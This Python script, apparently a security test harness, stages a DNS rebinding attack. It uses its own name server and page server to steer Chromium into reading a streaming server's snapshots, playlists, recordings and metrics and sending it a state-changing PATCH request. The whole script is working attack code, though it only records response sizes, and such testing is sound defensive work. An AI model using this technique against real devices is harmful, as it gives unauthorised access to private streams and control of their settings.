#!/usr/bin/env python3
"""Opens a page in Chromium whose name points to this host first and then to the server (DNS rebinding), and prints as JSON
what the page gets from the server: the status and length of each response, or null without one.

usage: rebind.py SERVER HTTP HTTPS RTSP     on a host of its own, where the port HTTP is free

The name server, on this host too, gives the name two addresses: this host's, which is nearer and preferred (RFC 6724 §6),
and the server's, to which Chromium turns once the page's own server has ended. The page has the server's port, since an
origin is a scheme, a name and a port.
"""
import http.server
import json
import pathlib
import socket
import struct
import subprocess
import sys
import tempfile
import threading

from browser import open_browser

NAME = "rebound.example"
PAGE = """<!doctype html><title>waiting</title><script>
const requests = {
  snapshot: ["/live/snapshot.jpg"], playlist: ["/live/index.m3u8"], page: ["/live"], streams: ["/api/streams"],
  recordings: ["/api/recordings"], metrics: ["/metrics"],
  change: ["/api/streams/live", {method: "PATCH", headers: {"Content-Type": "application/json"}, body: '{"mirror":true}'}],
};
async function attack() {
  for (;;) {
    // The page's own server responds until it has ended. A request that it had not read yet gets no response.
    const own = await fetch("/own", {cache: "no-store", signal: AbortSignal.timeout(1000)}).then(response => response.status === 299, () => true);
    if (!own) break;
    await new Promise(resolve => setTimeout(resolve, 100));
  }
  const result = {};
  for (const [name, [path, options]] of Object.entries(requests)) {
    result[name] = await fetch(path, options).then(
      async response => [response.status, (await response.arrayBuffer()).byteLength], () => null);
  }
  // An image of the same origin can be read back.
  result.image = await new Promise(resolve => {
    const image = new Image();
    image.onload = () => resolve([200, image.width]);
    image.onerror = () => resolve([0, 0]);
    image.src = "/live/snapshot.jpg?image";
  });
  window.result = result;
}
attack();
</script>"""


class PageServer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = PAGE.encode() if self.path == "/" else b""
        self.send_response(200 if self.path == "/" else 299)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def serve_name(own, addresses):
    """Responds to queries for A records with the addresses, to others with none, RFC 1035 §4."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((own, 53))
        while True:
            query, client = server.recvfrom(512)
            end = 12
            while query[end]:
                end += query[end] + 1
            kind = int.from_bytes(query[end + 1:end + 3], "big")
            found = addresses if kind == 1 else []
            # Each record has the name of the question, class IN and a minute to live.
            records = b"".join(struct.pack(">HHHIH4s", 0xC00C, 1, 1, 60, 4, socket.inet_aton(address)) for address in found)
            head = query[:2] + struct.pack(">HHHHH", 0x8180, 1, len(found), 0, 0)
            server.sendto(head + query[12:end + 5] + records, client)


def main():
    server, port = sys.argv[1], int(sys.argv[2])
    own = server.rsplit(".", 1)[0] + ".2"
    with tempfile.TemporaryDirectory() as folder:
        # "ip netns exec" has given this process and its children a mount namespace of their own.
        resolver = pathlib.Path(folder) / "resolv.conf"
        resolver.write_text(f"nameserver {own}\n")
        subprocess.run(["mount", "--bind", resolver, "/etc/resolv.conf"], check=True)
        threading.Thread(target=serve_name, args=(own, [own, server]), daemon=True).start()
        page = http.server.ThreadingHTTPServer((own, port), PageServer)
        threading.Thread(target=page.serve_forever, daemon=True).start()
        with open_browser("chromium", names=[NAME]) as browser:
            browser.go(f"http://{NAME}:{port}/")
            page.shutdown()
            page.server_close()
            result = browser.until("return window.result;", seconds=40)
        subprocess.run(["umount", "/etc/resolv.conf"], check=True)
    print(json.dumps(result))


main()
